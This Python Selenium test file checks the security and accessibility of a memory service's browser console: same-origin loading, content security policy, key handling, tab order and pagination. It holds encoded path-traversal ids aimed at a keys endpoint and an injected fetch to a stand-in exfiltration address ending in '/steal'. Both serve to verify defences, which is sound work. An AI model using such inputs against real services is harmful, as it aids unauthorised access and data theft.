"""The console page itself in the browser: it loads nothing from elsewhere, the policy is in force,
the key never leaves the tab, and the keyboard reaches every main control in order."""

from __future__ import annotations

from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from tests.support.console_driver import Console, call

VIEWS = ("#/overview", "#/recall", "#/topics", "#/runs", "#/documents")
FOCUSED = (
    "const e = document.activeElement;"
    " return e.id || (e.getAttribute('href') || '') || e.getAttribute('name') || e.tagName.toLowerCase()"
)


def tab_order(console: Console, presses: int) -> list[str]:
    order = []
    for _ in range(presses):
        ActionChains(console.driver).send_keys(Keys.TAB).perform()
        order.append(console.driver.execute_script(FOCUSED))
    return order


def test_every_request_of_every_view_stays_on_the_origin(console: Console) -> None:
    console.sign_in()
    for route in VIEWS:
        console.go(route)
    loaded = console.driver.execute_script("return performance.getEntriesByType('resource').map((e) => e.name)")
    assert any(url.endswith("/console/app.js") for url in loaded) and any("/v1/stats" in url for url in loaded)
    assert all(url.startswith(console.base + "/") for url in loaded), loaded
    assert not console.severe_console_errors()


# Ids pasted into the fragment that would climb out of /v1/memories/{id} if put into the path as they
# are, each with the one request the console may make for it (none when it cannot be an id at all).
TRAVERSALS = {
    "..%2F..%2Fv1%2Fkeys": ["/v1/memories/..%2F..%2Fv1%2Fkeys"],
    "..%2F..%2Fv1%2Fkeys%3Flimit%3D1": ["/v1/memories/..%2F..%2Fv1%2Fkeys%3Flimit%3D1"],
    "a%2F..%2F..%2F..%2Fv1%2Fstats": ["/v1/memories/a%2F..%2F..%2F..%2Fv1%2Fstats"],
    "..": [],
    "%2e%2E": [],
    ".": [],
}


def test_an_id_from_the_fragment_never_leaves_the_memory_route(console: Console) -> None:
    console.sign_in()
    console.go("#/memory")  # renders without a request, after the overview's requests are done
    for fragment, expected in TRAVERSALS.items():
        # Requests started from here on: an overview request still in flight finishes later, on a busy machine.
        since = console.driver.execute_script("performance.clearResourceTimings(); return performance.now()")
        console.go(f"#/memory/{fragment}")
        error = console.find("#main .error").text
        requested = console.driver.execute_script(
            "return performance.getEntriesByType('resource')"
            ".filter((e) => e.startTime >= arguments[0]).map((e) => new URL(e.name).pathname)",
            since,
        )
        assert requested == expected, fragment
        assert ("Not a valid id" in error) == (not expected), error


def test_the_policy_blocks_a_request_to_another_origin(console: Console) -> None:
    console.open()
    blocked = console.driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        " document.addEventListener('securitypolicyviolation', (e) => done([e.violatedDirective, e.blockedURI]));"
        " fetch('http://198.51.100.7/steal').catch(() => {});"
    )
    assert blocked == ["connect-src", "http://198.51.100.7/steal"]


def test_the_key_stays_in_this_tab_and_is_forgotten_on_request(console: Console) -> None:
    console.sign_in()
    storage = console.driver.execute_script("return [sessionStorage.length, localStorage.length, document.cookie]")
    assert storage == [1, 0, ""]  # the key (the namespace is stored once changed), no local storage, no cookie
    assert console.key not in console.find("#session").text  # only its public prefix is shown
    console.find("#forget-key").click()
    console.find("#api-key")
    assert console.driver.execute_script("return sessionStorage.getItem('engram.console.key')") is None


def test_a_wrong_key_is_refused_and_not_kept(console: Console) -> None:
    console.open()
    console.find("#api-key").send_keys("egk_00000000_not-a-key")
    console.find("#use-key").click()
    console.text_of("#status", "Key refused")
    assert console.driver.execute_script("return sessionStorage.getItem('engram.console.key')") is None


def test_the_keyboard_reaches_the_key_the_views_and_the_recall_controls_in_order(console: Console) -> None:
    console.open()
    assert tab_order(console, 4) == ["skip-link", "#/overview", "api-key", "use-key"]  # the title links home
    console.sign_in()
    console.driver.get("about:blank")
    console.open("#/recall")  # a fresh load: focus starts at the top, the key is still in the tab
    console.find("#recall-query")
    order = tab_order(console, 48)
    expected = [
        "skip-link", "#/overview", "namespace", "forget-key", "#/recall", "#/topics", "#/runs", "#/documents",
        "recall-query", "namespaces", "tags", "since", "until", "as_of", "source", "limit", "budget_chars",
        "min_score", "mode",
        "kinds", "layers", "explain", "diversify", "include_expired", "recall-submit",
    ]  # fmt: skip
    assert not [name for name in expected if name not in order], order  # each is reached...
    positions = [order.index(name) for name in expected]
    assert positions == sorted(positions), order  # ...in reading order


def test_older_runs_come_a_page_at_a_time(console: Console) -> None:
    for _ in range(51):  # one more than a page
        call(console.base, console.key, "POST", "/v1/consolidate", {"namespace": "paged", "dry_run": True})
    console.sign_in()
    console.driver.execute_script("sessionStorage.setItem('engram.console.namespace', 'paged')")
    console.open("#/runs")
    console.find("#older-runs").click()
    console.wait(lambda d: not d.find_elements(By.CSS_SELECTOR, "#older-runs"), "the last page removes the button")
    assert len(console.driver.find_elements(By.CSS_SELECTOR, "#main tbody tr")) == 51
